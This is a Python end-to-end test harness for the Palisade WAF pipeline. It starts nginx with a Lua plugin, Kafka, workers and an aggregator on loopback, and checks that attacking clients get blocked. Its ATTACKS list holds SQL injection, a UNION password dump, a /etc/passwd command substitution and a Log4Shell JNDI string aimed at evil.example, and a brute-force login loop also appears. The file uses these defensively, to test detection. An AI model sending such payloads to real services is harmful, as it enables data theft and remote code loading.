"""The whole Palisade pipeline as separate processes, on loopback, for the end-to-end test and the
pipeline benchmark (standard-library Python only).

    nginx + Palisade Lua plugin ──tap──▶ palisade mirror ──▶ Kafka (palisade dev-kafka: librdkafka's
    mock cluster) ──▶ 2 × palisade worker ──▶ palisade aggregator (SQLite) ──long-poll──▶ nginx blocks

Every process writes its log to the work directory; every pid is appended to `<workdir>/pids` so the
calling shell script can clean up even if this interpreter is killed. Ports are picked by the OS.
"""
import http.client
import json
import os
import queue
import re
import signal
import sqlite3
import subprocess
import sys
import threading
import time

ROOT = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
KONG = os.path.join(ROOT, "kong")
MODULES = "/usr/lib/nginx/modules"
MIRROR_TOKEN = "e2e-mirror-token"
AGGREGATOR_TOKEN = "e2e-aggregator-token"
WORKER_TOKEN = "e2e-worker-token"
DEFAULT_POLICY = os.path.join(os.path.dirname(os.path.abspath(__file__)), "policy.yaml")


class PipelineError(Exception):
    pass


sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "testlib"))
from ports import free_port  # noqa: E402  (outside the ephemeral range: scripts/testlib/ports.py)


def wait_until(what, predicate, timeout, interval=0.05, alive=None):
    """Polls `predicate` until it returns a truthy value (returned) or `timeout` seconds pass
    (PipelineError). `alive`, when given, is checked too: a process that died ends the wait at once."""
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        if alive is not None:
            alive()
        if time.monotonic() >= deadline:
            raise PipelineError("timed out after %.0f s waiting for %s" % (timeout, what))
        time.sleep(interval)


def http_get(port, path, token=None, timeout=5.0):
    """(status, body bytes) of a GET on 127.0.0.1:port, or (None, error text)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", path, headers={"Authorization": "Bearer " + token} if token else {})
        r = conn.getresponse()
        return r.status, r.read()
    except (OSError, http.client.HTTPException) as e:
        return None, str(e).encode()
    finally:
        conn.close()


def prometheus_sum(text, name):
    """Sum of the samples of metric `name` (any labels) in Prometheus text."""
    total = 0.0
    for line in text.splitlines():
        if line.startswith(name + " ") or line.startswith(name + "{"):
            total += float(line.rsplit(" ", 1)[1])
    return total


class Process:
    def __init__(self, name, popen, log_path):
        self.name, self.popen, self.log_path = name, popen, log_path

    def running(self):
        return self.popen.poll() is None

    def check(self):
        if not self.running():
            raise PipelineError("%s exited with status %s; log tail:\n%s" % (self.name, self.popen.returncode,
                                                                               self.log_tail()))

    def log_tail(self, lines=25):
        try:
            with open(self.log_path, errors="replace") as f:
                return "".join(f.readlines()[-lines:])
        except OSError:
            return ""

    def signal(self, number):
        if self.running():
            self.popen.send_signal(number)

    def stop(self, timeout=15.0):
        """SIGTERM, then SIGKILL (its whole process group) after `timeout` seconds; returns the
        exit status."""
        if self.running():
            self.popen.send_signal(signal.SIGTERM)
            try:
                self.popen.wait(timeout)
            except subprocess.TimeoutExpired:
                self.kill()
        return self.popen.returncode

    def kill(self):
        """SIGKILL to the process and anything it started (it leads its own process group)."""
        try:
            os.killpg(self.popen.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        self.popen.wait(10)


class Pipeline:
    """Starts and stops the roles. `startup_timeout` bounds each start (a debug build on a loaded
    2-core machine can take tens of seconds to come up)."""

    def __init__(self, palisade, workdir, brokers=3, partitions=12, scoring_tasks=1, flush_interval_ms=20,
                 policy=DEFAULT_POLICY, startup_timeout=120.0, nginx_workers=2, log_level="warning"):
        self.palisade, self.dir = palisade, workdir
        self.brokers, self.partitions, self.scoring_tasks = brokers, partitions, scoring_tasks
        self.flush_interval_ms, self.policy, self.nginx_workers = flush_interval_ms, policy, nginx_workers
        self.startup_timeout, self.log_level = startup_timeout, log_level
        self.procs = []
        self.kafka = None
        self.kafka_lines = queue.Queue()
        self.bootstrap = None
        self.mirror = self.aggregator = self.nginx = None
        self.workers = []
        self.database = os.path.join(workdir, "aggregator.sqlite")
        self.mirror_port = free_port()
        self.aggregator_port = free_port()
        self.gateway_port = None  # picked by start_nginx
        self.upstream_port = None
        self.aggregator_starts = 0

    # -- processes ---------------------------------------------------------------------------

    def _spawn(self, name, argv, env=None, stdin=None, stdout=None):
        log_path = os.path.join(self.dir, name + ".log")
        log = open(log_path, "ab")
        full_env = dict(os.environ)
        full_env.update(env or {})
        popen = subprocess.Popen(argv, stdin=stdin if stdin is not None else subprocess.DEVNULL,
                                 stdout=stdout if stdout is not None else log, stderr=log, env=full_env,
                                 start_new_session=True)
        log.close()
        with open(os.path.join(self.dir, "pids"), "a") as f:
            f.write("%d\n" % popen.pid)
        proc = Process(name, popen, log_path)
        self.procs.append(proc)
        return proc

    def _wait_ready(self, proc, port, path="/readyz"):
        wait_until("%s %s" % (proc.name, path), lambda: http_get(port, path, timeout=2)[0] == 200,
                   self.startup_timeout, interval=0.1, alive=proc.check)

    def start_kafka(self):
        self.kafka = self._spawn("dev-kafka", [self.palisade, "dev-kafka", "--brokers", str(self.brokers),
                                               "--partitions", str(self.partitions), "--control-stdin"],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE)

        def read(stream):
            for raw in iter(stream.readline, b""):
                self.kafka_lines.put(raw.decode(errors="replace").strip())
            self.kafka_lines.put(None)

        threading.Thread(target=read, args=(self.kafka.popen.stdout,), daemon=True).start()
        self.bootstrap = self._kafka_line(self.startup_timeout)
        if not self.bootstrap or "127.0.0.1:" not in self.bootstrap:
            raise PipelineError("dev-kafka printed %r instead of its bootstrap servers" % self.bootstrap)

    def _kafka_line(self, timeout):
        try:
            line = self.kafka_lines.get(timeout=timeout)
        except queue.Empty:
            raise PipelineError("dev-kafka said nothing for %.0f s; log tail:\n%s" % (timeout, self.kafka.log_tail()))
        if line is None:
            raise PipelineError("dev-kafka exited; log tail:\n%s" % self.kafka.log_tail())
        return line

    def kafka_control(self, command, timeout=30.0):
        """Sends a fault-injection command to dev-kafka (`broker down 2`) and waits for its answer."""
        self.kafka.popen.stdin.write((command + "\n").encode())
        self.kafka.popen.stdin.flush()
        reply = self._kafka_line(timeout)
        if reply != "ok " + command:
            raise PipelineError("dev-kafka answered %r to %r" % (reply, command))

    def start_mirror(self):
        self.mirror = self._spawn(
            "mirror", [self.palisade, "mirror", "--kafka-bootstrap", self.bootstrap, "--listen-port",
                       str(self.mirror_port), "--log-level", self.log_level],
            env={"PALISADE_MIRROR_TOKENS": MIRROR_TOKEN})
        self._wait_ready(self.mirror, self.mirror_port)

    def start_worker(self):
        index = len(self.workers) + 1
        port = free_port()
        worker = self._spawn(
            "worker-%d" % index, [self.palisade, "worker", "--kafka-bootstrap", self.bootstrap, "--listen-port",
                                  str(port), "--scoring-tasks", str(self.scoring_tasks), "--log-level",
                                  self.log_level],
            env={"PALISADE_WORKER_TOKENS": WORKER_TOKEN})
        worker.port = port
        self.workers.append(worker)
        self._wait_ready(worker, port)
        return worker

    def start_aggregator(self):
        self.aggregator_starts += 1
        argv = [self.palisade, "aggregator", "--kafka-bootstrap", self.bootstrap, "--listen-port",
                str(self.aggregator_port), "--database", self.database]
        if self.policy:
            argv += ["--policy", self.policy]
        self.aggregator = self._spawn("aggregator-%d" % self.aggregator_starts, argv,
                                      env={"PALISADE_AGGREGATOR_TOKENS": AGGREGATOR_TOKEN})
        self._wait_ready(self.aggregator, self.aggregator_port)

    def start_nginx(self):
        ngx = os.path.join(self.dir, "nginx")
        os.makedirs(ngx, exist_ok=True)
        for d in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
            os.makedirs(os.path.join(ngx, d), exist_ok=True)
        if os.geteuid() == 0:  # nginx started as root runs its workers as nobody
            os.chmod(self.dir, 0o755)
            os.chmod(ngx, 0o755)
            for d in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
                os.chmod(os.path.join(ngx, d), 0o777)
        for attempt in range(3):
            # The ports are picked now, not when the pipeline was made: the brokers and roles
            # started since hold sockets of their own, on ephemeral ports from the same range, and
            # once took the one picked for nginx. A bind that still fails gets fresh ports.
            self.gateway_port, self.upstream_port = free_port(), free_port()
            try:
                self._start_nginx_once(ngx)
                return
            except PipelineError as error:
                if attempt == 2 or "Address already in use" not in str(error):
                    raise

    def _start_nginx_once(self, ngx):
        conf = NGINX_CONF
        for key, value in {
            "DIR": ngx, "MODULES": MODULES, "KONG": KONG, "WORKERS": self.nginx_workers,
            "GATEWAY": self.gateway_port, "UPSTREAM": self.upstream_port, "FLUSH": self.flush_interval_ms,
            "MIRROR": "http://127.0.0.1:%d" % self.mirror_port, "MIRROR_TOKEN": MIRROR_TOKEN,
            "AGG": "http://127.0.0.1:%d" % self.aggregator_port, "AGG_TOKEN": AGGREGATOR_TOKEN,
        }.items():
            conf = conf.replace("@%s@" % key, str(value))
        path = os.path.join(ngx, "nginx.conf")
        with open(path, "w") as f:
            f.write(conf)
        self.nginx = self._spawn("nginx", ["nginx", "-p", ngx, "-c", path, "-e", os.path.join(ngx, "error.log")])
        wait_until("nginx", lambda: http_get(self.gateway_port, "/palisade/status", timeout=2)[0] == 200,
                   self.startup_timeout, alive=self.nginx.check)

    def start(self, workers=2):
        self.start_kafka()
        self.start_mirror()
        for _ in range(workers):
            self.start_worker()
        self.start_aggregator()
        self.start_nginx()

    def stop(self):
        """Stops everything this pipeline started (nginx first, Kafka last); never raises."""
        for proc in reversed(self.procs):
            try:
                if proc is self.kafka and proc.running():
                    proc.popen.stdin.close()
                proc.stop(timeout=10)
            except Exception:  # noqa: BLE001 - cleanup goes on
                try:
                    proc.kill()
                except Exception:  # noqa: BLE001
                    pass

    def check_alive(self):
        for proc in (self.kafka, self.mirror, self.aggregator, self.nginx):
            if proc is not None:
                proc.check()

    # -- observables -------------------------------------------------------------------------

    def aggregator_json(self, path):
        status, body = http_get(self.aggregator_port, path, token=AGGREGATOR_TOKEN)
        if status != 200:
            return None
        return json.loads(body)

    def aggregator_status(self):
        return self.aggregator_json("/v1/status")

    def decisions(self):
        """The aggregator's live decision set {scope:value: decision} (a full snapshot)."""
        answer = self.aggregator_json("/v1/decisions?since=0")
        if answer is None:
            return None
        return {d["scope"] + ":" + d["value"]: d for d in answer["upserts"]}

    def verdict(self, request_id):
        """The aggregator's verdict for a request id (GET /v1/verdicts/{id}), or None."""
        return self.aggregator_json("/v1/verdicts/" + request_id)

    def mirror_metric(self, name):
        status, body = http_get(self.mirror_port, "/metrics", token=MIRROR_TOKEN)
        if status != 200:
            return None
        return prometheus_sum(body.decode(), name)

    def gateway_status(self):
        status, body = http_get(self.gateway_port, "/palisade/status")
        return json.loads(body) if status == 200 else None

    def processed_verdict_ids(self):
        """Request ids whose verdict the aggregator has processed and committed: its
        de-duplication record in SQLite (table `seen`, kind `verdict`), written in the same
        transaction as the verdict's effects and kept across restarts."""
        db = sqlite3.connect("file:%s?mode=ro" % self.database, uri=True, timeout=10)
        try:
            return {row[0] for row in db.execute("SELECT id FROM seen WHERE kind = 'verdict'")}
        finally:
            db.close()


class Client:
    """One client of the gateway: a keep-alive connection, its address in X-Forwarded-For (nginx's
    realip module trusts loopback), every request with its own X-Request-Id. Thread-confined."""

    def __init__(self, port, ip, prefix, log):
        # request ids the plugin takes as they are: [A-Za-z0-9-_.:], at most 200 characters
        self.prefix = re.sub(r"[^A-Za-z0-9_.:-]", "_", prefix)[:180]
        self.port, self.ip, self.log = port, ip, log
        self.conn = None
        self.count = 0

    def request(self, method, path, body=None, headers=None):
        """Sends one request; returns (status, request id, seconds). Status None on a transport
        error (after one retry on a fresh connection)."""
        self.count += 1
        request_id = "%s-%d" % (self.prefix, self.count)
        h = {"X-Forwarded-For": self.ip, "X-Request-Id": request_id, "Host": "api.e2e.test"}
        if body is not None:
            h["Content-Type"] = "application/json"
        h.update(headers or {})
        t0 = time.perf_counter()
        for attempt in (0, 1):
            try:
                if self.conn is None:
                    self.conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
                self.conn.request(method, path, body=body, headers=h)
                r = self.conn.getresponse()
                r.read()
                status = r.status
                if r.getheader("Connection", "").lower() == "close":
                    self.close()
                break
            except (OSError, http.client.HTTPException):
                self.close()
                status = None
                if attempt == 1:
                    break
        self.log.add(request_id, self.ip, status)
        return status, request_id, time.perf_counter() - t0

    def close(self):
        if self.conn is not None:
            self.conn.close()
            self.conn = None


class RequestLog:
    """Every request the driver sent through the gateway: id → (client ip, status)."""

    def __init__(self):
        self.lock = threading.Lock()
        self.entries = {}

    def add(self, request_id, ip, status):
        with self.lock:
            self.entries[request_id] = (ip, status)

    def ids(self):
        with self.lock:
            return set(self.entries)

    def statuses(self, ips):
        with self.lock:
            return [s for (ip, s) in self.entries.values() if ip in ips]


NORMAL_REQUESTS = [
    ("GET", "/v1/products/%d", None),
    ("GET", "/v1/users/%d/orders", None),
    ("GET", "/v1/search?q=blue+running+shoes&page=%d", None),
    ("POST", "/v1/orders", '{"sku":"A-%d","quantity":2,"note":"leave at the door"}'),
    ("POST", "/v1/login", '{"username":"user%d","password":"correct-horse"}'),
]


def normal_request(client, n):
    method, path, body = NORMAL_REQUESTS[n % len(NORMAL_REQUESTS)]
    path = path % (n % 97 + 1) if "%d" in path else path
    body = body % (n % 97 + 1) if body else None
    return client.request(method, path, body)


ATTACKS = [  # (method, path, body, headers): each a clear, high-confidence injection
    ("GET", "/v1/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20", None, None),
    ("GET", "/v1/products/1?id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", None, None),
    ("POST", "/v1/orders", '{"sku":"A-1","note":"$(cat /etc/passwd)"}', None),
    ("GET", "/v1/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", None, None),
]


class Traffic:
    """Normal clients sending requests in background threads until stopped."""

    def __init__(self, port, log, ips, interval=0.05):
        self.port, self.log, self.ips, self.interval = port, log, ips, interval
        self.stopping = threading.Event()
        self.threads = []

    def start(self):
        for i, ip in enumerate(self.ips):
            t = threading.Thread(target=self._run, args=(i, ip), daemon=True)
            t.start()
            self.threads.append(t)
        return self

    def _run(self, index, ip):
        client = Client(self.port, ip, "normal%d" % index, self.log)
        n = index
        while not self.stopping.is_set():
            normal_request(client, n)
            n += 1
            self.stopping.wait(self.interval)
        client.close()

    def stop(self):
        self.stopping.set()
        for t in self.threads:
            t.join(15)


def wait_blocked(port, log, ip, prefix, timeout, since=None, poll_interval=0.01):
    """Polls as client `ip` until the gateway answers 403. Returns seconds from `since` (a
    perf_counter value; default: now) to the first 403, or None after `timeout` seconds."""
    client = Client(port, ip, prefix, log)
    t0 = time.perf_counter() if since is None else since
    deadline = time.perf_counter() + timeout
    try:
        while time.perf_counter() < deadline:
            if client.request("GET", "/v1/products/2")[0] == 403:
                return time.perf_counter() - t0
            time.sleep(poll_interval)
        return None
    finally:
        client.close()


def attack_and_wait_blocked(port, log, ip, prefix, attack, timeout):
    """Sends one attack from `ip` (after a request that is served), then polls as that client until
    the gateway answers 403. Returns seconds from sending the attack to the first 403, or None."""
    client = Client(port, ip, prefix, log)
    try:
        client.request("GET", "/v1/products/1")
        method, path, body, headers = attack
        t0 = time.perf_counter()
        client.request(method, path, body, headers)
    finally:
        client.close()
    return wait_blocked(port, log, ip, prefix + "-poll", timeout, since=t0)


def brute_force_and_wait_blocked(port, log, ip, prefix, attempts, timeout):
    """Failed logins for one user from `ip`, then polls until 403. Returns seconds from the last
    failed attempt to the first 403 (0 when blocked before the run ended), or None."""
    client = Client(port, ip, prefix, log)
    try:
        for i in range(attempts):
            status = client.request("POST", "/v1/login", '{"username":"admin","password":"guess-%d"}' % i)[0]
            if status == 403:
                return 0.0
        t0 = time.perf_counter()
    finally:
        client.close()
    return wait_blocked(port, log, ip, prefix + "-poll", timeout, since=t0)


def percentile(values, q):
    xs = sorted(values)
    return xs[min(len(xs) - 1, max(0, int(round(q * (len(xs) - 1)))))]


NGINX_CONF = r"""# Generated by scripts/e2e/pipeline.py: the gateway of the end-to-end test (loopback, unprivileged).
daemon off;
master_process on;
load_module @MODULES@/ndk_http_module.so;
load_module @MODULES@/ngx_http_lua_module.so;
worker_processes @WORKERS@;
pid @DIR@/nginx.pid;
error_log @DIR@/error.log warn;
worker_shutdown_timeout 5s;
events { worker_connections 4096; }
http {
  access_log off;
  client_body_temp_path @DIR@/body;
  proxy_temp_path @DIR@/proxy;
  fastcgi_temp_path @DIR@/fastcgi;
  uwsgi_temp_path @DIR@/uwsgi;
  scgi_temp_path @DIR@/scgi;

  lua_package_path "@KONG@/?.lua;;";
  lua_shared_dict palisade_decisions 16m;
  lua_socket_log_errors off;

  init_by_lua_block {
    require("palisade.nginx").setup({
      mode = "block",
      mirror_url = "@MIRROR@", mirror_token = "@MIRROR_TOKEN@",
      aggregator_url = "@AGG@", aggregator_token = "@AGG_TOKEN@",
      node_name = "e2e-gateway",
      flush_interval_ms = @FLUSH@,
      poll_wait_s = 20,
      retry_max_backoff_ms = 1000,
      exclude_paths = { "/palisade/" },
    })
  }
  init_worker_by_lua_block { require("palisade.nginx").init_worker() }

  upstream api { server 127.0.0.1:@UPSTREAM@; keepalive 64; }

  server {  # the gateway: clients are told apart by X-Forwarded-For (realip, loopback trusted)
    listen 127.0.0.1:@GATEWAY@ backlog=4096;
    set_real_ip_from 127.0.0.0/8;
    real_ip_header X-Forwarded-For;
    access_by_lua_block { require("palisade.nginx").access() }
    header_filter_by_lua_block { require("palisade.nginx").header_filter() }
    log_by_lua_block { require("palisade.nginx").log() }
    location = /palisade/status {
      allow 127.0.0.1; deny all;
      content_by_lua_block { ngx.say(require("palisade.gateway").status()) }
    }
    location / {
      proxy_http_version 1.1;
      proxy_set_header Connection "";
      proxy_pass http://api;
    }
  }

  server {  # the tiny API behind it
    listen 127.0.0.1:@UPSTREAM@;
    default_type application/json;
    location = /v1/login {
      content_by_lua_block {
        ngx.req.read_body()
        local body = ngx.req.get_body_data() or ""
        if body:find('"password":"correct-horse"', 1, true) then
          ngx.say('{"token":"opaque"}')
        else
          ngx.status = 401
          ngx.say('{"error":"invalid credentials"}')
        end
      }
    }
    location / { return 200 '{"ok":true}\n'; }
  }
}
"""
